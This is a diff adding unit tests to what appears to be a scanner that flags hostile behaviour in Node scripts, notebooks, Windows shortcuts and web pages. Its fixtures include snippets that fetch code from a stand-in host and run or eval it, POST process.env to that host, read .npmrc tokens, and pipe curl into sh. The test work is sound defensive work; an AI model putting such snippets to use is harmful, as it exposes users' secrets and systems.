@@ -4,10 +4,13 @@ import { appealsIn } from '../../src/formats/appeals.js';
 import { npmHooks } from '../../src/formats/install-hooks.js';
 import { remarkableImports } from '../../src/formats/native-imports.js';
 import { remarkableStrings } from '../../src/formats/native-strings.js';
-import { notebookSource } from '../../src/formats/notebook.js';
+import { notebookCommands, notebookSource } from '../../src/formats/notebook.js';
+import { pageCommands } from '../../src/formats/page-scripts.js';
 import { isScrambled } from '../../src/formats/scrambled.js';
+import { scriptAct } from '../../src/formats/script-acts.js';
 import { startedByScript } from '../../src/formats/script-calls.js';
 import { scriptLines } from '../../src/formats/script-lines.js';
+import { shortcutTexts } from '../../src/formats/shortcut.js';
 import { tokenLines } from '../../src/formats/token-lines.js';
 import { yamlTags } from '../../src/formats/yaml-tags.js';
 
@@ -69,6 +72,42 @@ test('commands that a script for Node starts are told, and none of a script for 
   const script = 'const run = require("child_process");\nrun.execSync("dig deep"); run.exec(`plant ${x}`)\n';
   expect(startedByScript(script)).toEqual([{ text: 'dig deep', line: 2 }, { text: 'plant ${x}', line: 2 }]);
   expect(startedByScript('pattern.exec("dig")')).toEqual([]);
+});
+
+describe('what a script for Node does as a whole', () => {
+  const FETCH = 'const https = require("node:https"), fs = require("fs");\nhttps.get("https://garden.invalid/a", keep);\n';
+  test.each([
+    ['keeps a program and starts it', `const cp = require("child_process");\n${FETCH}fs.chmodSync(place, 0o755); cp.spawn(place);`, { traits: ['fetches-and-runs'], line: 2 }],
+    ['runs the reply', `${FETCH}function keep(reply) { eval(reply); }`, { traits: ['fetches-and-runs'], line: 1 }],
+    ['sends the environment', 'import fs from "node:fs";\n\nfetch("https://garden.invalid", { method: "POST", body: JSON.stringify(process.env) });', { traits: ['sends-secrets'], line: 3 }],
+    ['sends a file with tokens', `${FETCH}fs.readFileSync(home + "/.npmrc");`, { traits: ['sends-secrets'], line: 1 }],
+  ])('%s', (_, text, act) => {
+    expect(scriptAct(text)).toMatchObject(act);
+  });
+
+  test.each([
+    ['a script of a page', 'fetch("https://garden.invalid").then((reply) => eval(reply));'],
+    ['a server', 'const http = require("http"); http.createServer(dig).listen(process.env.PORT);'],
+    ['a tool that starts programs', 'const cp = require("child_process"); cp.spawn("dig", [], { env: { ...process.env, DEEP: 1 } });'],
+    ['a client with one variable', `${FETCH}const key = JSON.stringify(process.env.GARDEN_KEY);`],
+  ])('%s does nothing of note', (_, text) => {
+    expect(scriptAct(text)).toBeNull();
+  });
+});
+
+test('the lines that a notebook hands to a shell are told, and none of its Python', () => {
+  expect(notebookCommands(notebook('!dig deep\nx = 1\nout = !dig more', '%%bash\nplant x\nwater y', '%time dig()'))).toEqual(['dig deep', 'dig more', 'plant x', 'water y', 'time dig()']);
+  expect(notebookCommands('no notebook')).toEqual([]);
+});
+
+test('what a shortcut of Windows starts is read in both encodings, wherever it begins', () => {
+  expect(shortcutTexts(Buffer.concat([Buffer.from('L\0\0'), Buffer.from('dig.exe --deep', 'utf16le')]))).toContain('dig.exe --deep');
+  expect(shortcutTexts(Buffer.from('L\0\0\0dig.exe --deep\0'))).toContain('dig.exe --deep');
+});
+
+test('of pages only those are read line by line that start programs', () => {
+  expect(pageCommands('<p>curl x | sh</p>')).toEqual([]);
+  expect(pageCommands('<script>\nnew ActiveXObject("WScript.Shell").Run("dig")\n</script>')[1]).toEqual({ text: 'new ActiveXObject("WScript.Shell").Run("dig")', line: 2 });
 });
 
 test('what may be a token is told with its line and what is around it', () => {
